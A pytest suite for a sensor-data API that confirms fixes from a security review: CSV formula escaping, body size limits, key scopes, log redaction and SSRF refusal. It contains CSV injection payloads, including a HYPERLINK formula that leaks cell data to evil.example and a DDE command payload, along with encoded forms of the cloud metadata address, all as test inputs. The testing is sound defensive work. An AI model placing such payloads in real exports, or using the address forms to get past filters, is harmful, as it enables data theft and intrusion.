"""Hardening findings of the adversarial review: each one is reproduced and must stay fixed.

M1 CSV formula injection, M4 one body limit, M5 read keys cannot mint or revoke keys,
L1 out-of-range parameters are 4xx problems, L2 keys never reach the access log,
L4 ingest secrets are header-safe.
"""

from __future__ import annotations

import csv
import io
import logging
import socket
import threading
import time
import zipfile
from collections.abc import Iterator

import pytest
import uvicorn
from fastapi.testclient import TestClient

from lorakeet.api.app import create_app
from lorakeet.api.csvout import safe_cell
from lorakeet.api.deps import Services
from tests.views.conftest import stored

from .conftest import Account, api_settings, register_device, signup

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\tx",
    "\ry",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def all_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_no_formula(text: str) -> None:
    bad = [c for c in all_cells(text) if c.startswith(FORMULA_START) and not _number(c)]
    assert not bad, f"unescaped formula cells: {bad}"


def _number(c: str) -> bool:
    try:
        float(c)
    except ValueError:
        return False
    return True


def test_safe_cell_escapes_text_not_numbers() -> None:
    for h in HOSTILE:
        assert safe_cell(h) == "'" + h
    assert safe_cell(-4.5) == "-4.5" and safe_cell(-3) == "-3" and safe_cell(None) == ""
    assert safe_cell("plain") == "plain" and safe_cell(True) == "true"


def test_every_csv_escapes_formulas(api_client: TestClient, api_services: Services) -> None:
    owner = signup(api_client, "Owner")
    uid = "town.bin-evil"
    register_device(
        api_client,
        owner,
        uid,
        name=HOSTILE[0],
        licence=HOSTILE[1],
        tags=["-tag"],
        visibility="public",
        location={"latitude": 51.9, "longitude": 4.47},
    )
    now = time.time_ns()
    api_services.store.write(
        [stored(uid, "bin", now - 60_000_000_000, 1, fill_pct=97.0, status=HOSTILE[2], temperature=-4.5)]
    )
    h = owner.headers
    texts = {
        "devices.csv": api_client.get("/v1/public/devices.csv"),
        "readings": api_client.get(f"/v1/devices/{uid}/readings", params={"format": "csv"}, headers=h),
        "public readings": api_client.get(f"/v1/public/devices/{uid}/readings.csv"),
        "web readings": api_client.get(f"/web/devices/{uid}/readings.csv"),
        "collection list": api_client.get("/v1/bins/collection-list", params={"format": "csv"}),
        "web collection": api_client.get("/web/bins/collection.csv"),
    }
    for what, r in texts.items():
        assert r.status_code == 200, (what, r.text)
        assert_no_formula(r.text)
    assert "'" + HOSTILE[0] in all_cells(texts["devices.csv"].text)
    assert "'" + HOSTILE[2] in all_cells(texts["readings"].text)
    assert "-4.5" in all_cells(texts["readings"].text)  # numbers stay numbers
    assert "'" + HOSTILE[0] in all_cells(texts["collection list"].text)
    z = zipfile.ZipFile(io.BytesIO(api_client.get("/v1/me/export", headers=h).content))
    csvs = [n for n in z.namelist() if n.endswith(".csv")]
    assert csvs
    for name in csvs:
        assert_no_formula(z.read(name).decode())


def test_one_body_limit_for_every_route(api_services: Services) -> None:
    services = Services(api_settings(max_body_bytes=4096), api_services.registry, api_services.store)
    with TestClient(create_app(services)) as client:
        big = b'{"name": "x", "email": "' + b"a" * 10_000 + b'@example.org"}'
        r = client.post("/v1/accounts", content=big, headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and r.headers["content-type"] == "application/problem+json"
        assert "4096" in r.json()["detail"]

        def chunks() -> Iterator[bytes]:  # no Content-Length: chunked transfer
            yield b'{"name": "x", "email": "'
            for _ in range(100):
                yield b"a" * 100
            yield b'@example.org"}'

        r = client.post("/v1/accounts", content=chunks(), headers={"Content-Type": "application/json"})
        assert r.status_code == 413
        small = client.post("/v1/accounts", json={"name": "Small", "email": "small@example.org"})
        assert small.status_code == 201


def test_read_scope_key_cannot_create_or_revoke_keys(api_client: TestClient) -> None:
    acc = signup(api_client, "Reader")
    r = api_client.post("/v1/keys", json={"name": "ro", "scopes": ["read"]}, headers=acc.headers)
    assert r.status_code == 201
    reader = Account(acc.id, r.json()["key"])
    write_key_id = api_client.get("/v1/keys", headers=acc.headers).json()["data"][0]["id"]
    assert (
        api_client.post(
            "/v1/keys", json={"name": "x", "scopes": ["read"]}, headers=reader.headers
        ).status_code
        == 403
    )
    assert api_client.delete(f"/v1/keys/{write_key_id}", headers=reader.headers).status_code == 403
    assert api_client.get("/v1/me", headers=acc.headers).status_code == 200  # the write key still works


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/v1/devices/{d}/readings", {"start": "-1000000d"}),
        ("/v1/devices/{d}/readings", {"start": "0001-01-01T00:00:00Z"}),
        ("/v1/devices/{d}/readings", {"end": "9999-12-31T00:00:00Z"}),
        ("/v1/devices/{d}/readings", {"start": "-1d", "every": "9999999w"}),
        ("/v1/devices/{d}/readings", {"start": "-9999999w", "every": "1w"}),
        ("/v1/public/devices/{d}/readings", {"start": "0001-01-01T00:00:00Z"}),
        ("/v1/public/devices/{d}/readings.csv", {"end": "9999-12-31T23:59:59Z"}),
        ("/v1/devices/{d}/uplinks", {"start": "-1000000d"}),
        ("/v1/boats/{d}/track", {"start": "0001-01-01T00:00:00Z"}),
        ("/v1/public/devices", {"offset": str(2**63)}),
        ("/v1/devices", {"offset": str(2**63)}),
        ("/v1/readings/latest", {"offset": str(2**63)}),
        ("/v1/alerts/rules", {"offset": str(2**63)}),
        ("/v1/alerts/events", {"rule_id": str(2**63)}),
        ("/v1/alerts/rules/" + str(2**63), {}),
        ("/v1/codecs/" + str(2**63), {}),
        ("/v1/keys/" + str(2**64), {}),
        ("/v1/accounts/" + str(2**63), {}),
        ("/v1/bins", {"tz": "A" * 1200}),
        ("/v1/bins/collection-list", {"tz": "Europe/" + "x" * 1000}),
        ("/v1/bins", {"horizon": "9999999w"}),
        ("/", {"tz": "A" * 1200}),
        ("/web/bins/collection.csv", {"tz": "A" * 1200}),
        ("/web/devices/{d}", {"tz": "A" * 1200, "start": "0001-01-01T00:00:00Z"}),
    ],
)
def test_out_of_range_parameters_are_4xx(
    api_client: TestClient, api_services: Services, path: str, params: dict[str, str]
) -> None:
    owner = signup(api_client, "Owner")
    register_device(api_client, owner, "sea.boat-1", kind="boat", visibility="public")
    api_services.store.write([stored("sea.boat-1", "boat", time.time_ns() - 10**9, 1, fill_pct=1.0)])
    url = path.format(d="sea.boat-1")
    for headers in (owner.headers, {}):
        r = api_client.get(url, params=params, headers=headers)
        assert r.status_code < 500, f"{url} {params}: {r.status_code} {r.text[:200]}"
        if r.status_code >= 400:
            assert r.headers["content-type"].startswith(("application/problem+json", "text/html"))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


def test_keys_never_reach_the_access_log(api_services: Services, caplog: pytest.LogCaptureFixture) -> None:
    port = _free_port()
    config = uvicorn.Config(
        create_app(api_services), host="127.0.0.1", port=port, log_config=None, log_level="info"
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    caplog.set_level(logging.INFO)
    thread.start()
    try:
        deadline = time.monotonic() + 10
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.02)
        import httpx

        with TestClient(create_app(api_services)) as c:
            key = signup(c, "Logged").key
        secret = "hunter2-webhook-secret"
        httpx.get(f"http://127.0.0.1:{port}/?key={key}", follow_redirects=False)
        httpx.get(f"http://127.0.0.1:{port}/v1/public/devices?api_key={secret}&limit=1")
        httpx.get(f"http://127.0.0.1:{port}/v1/devices/{key}")
    finally:
        server.should_exit = True
        thread.join(10)
    access = [r.getMessage() for r in caplog.records if r.name == "uvicorn.access"]
    assert len(access) >= 3
    text = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("uvicorn"))
    assert key not in text and key[3:] not in text and secret not in text
    assert "key=[redacted]" in text


@pytest.mark.parametrize("secret", ["\x00" * 20, "é" * 20, "with spaces in it 12345", "tab\there-1234567890"])
def test_ingest_secrets_must_be_header_safe(api_client: TestClient, secret: str) -> None:
    owner = signup(api_client, "Owner")
    register_device(api_client, owner, "hdr-app.dev-1")
    r = api_client.post(
        "/v1/ingest/ttn/secrets", json={"application_id": "hdr-app", "secret": secret}, headers=owner.headers
    )
    assert r.status_code == 422, r.text
    ok = api_client.post(
        "/v1/ingest/ttn/secrets",
        json={"application_id": "hdr-app", "secret": "Printable~ASCII!0123"},
        headers=owner.headers,
    )
    assert ok.status_code == 201


def test_quotas_per_account(api_services: Services) -> None:
    services = Services(
        api_settings(max_devices_per_account=2, max_alert_rules_per_account=1, max_jobs_per_account=1),
        api_services.registry,
        api_services.store,
    )
    with TestClient(create_app(services)) as client:
        acc = signup(client, "Quota")
        register_device(client, acc, "quota-app.d1", visibility="public")
        register_device(client, acc, "quota-app.d2")
        r = client.post(
            "/v1/devices", json={"application_id": "quota-app", "device_id": "d3"}, headers=acc.headers
        )
        assert r.status_code == 409 and "2 devices" in r.json()["detail"]
        rule = {"name": "r", "rule_type": "threshold", "quantity": "fill_pct", "threshold": 80}
        assert (
            client.post(
                "/v1/alerts/rules", json={**rule, "device": "quota-app.d1"}, headers=acc.headers
            ).status_code
            == 201
        )
        r = client.post("/v1/alerts/rules", json={**rule, "device": "quota-app.d2"}, headers=acc.headers)
        assert r.status_code == 409


def test_redecode_jobs_are_bounded_per_account() -> None:
    from lorakeet.api.jobs import Job, JobBoard, JobLimit
    from lorakeet.storage.records import DeviceKey

    board = JobBoard()
    running = Job("a" * 32, "redecode", DeviceKey("app", "d"), 7)  # started, not finished
    board._jobs[running.id] = running
    with pytest.raises(JobLimit):
        board.start_redecode(None, None, DeviceKey("app", "d"), 0, 1, 7, per_account=1)  # type: ignore[arg-type]
    assert board.get(running.id) is running and len(board._jobs) == 1  # the refused job was not kept


@pytest.mark.parametrize(
    ("address", "public"),
    [
        ("169.254.169.254", False),
        ("64:ff9b::a9fe:a9fe", False),  # NAT64 form of the metadata address
        ("64:ff9b:1::a9fe:a9fe", False),
        ("2002:a9fe:a9fe::1", False),  # 6to4
        ("::ffff:127.0.0.1", False),
        ("64:ff9b::808:808", True),  # NAT64 of a public address
        ("8.8.8.8", True),
        ("2606:4700::1111", True),
    ],
)
def test_alert_targets_with_embedded_private_ipv4_are_refused(address: str, public: bool) -> None:
    import ipaddress

    from lorakeet.alerts.targets import is_public, private_target

    assert is_public(ipaddress.ip_address(address)) is public
    host = f"[{address}]" if ":" in address else address
    assert (private_target(f"http://{host}/hook") is None) is public
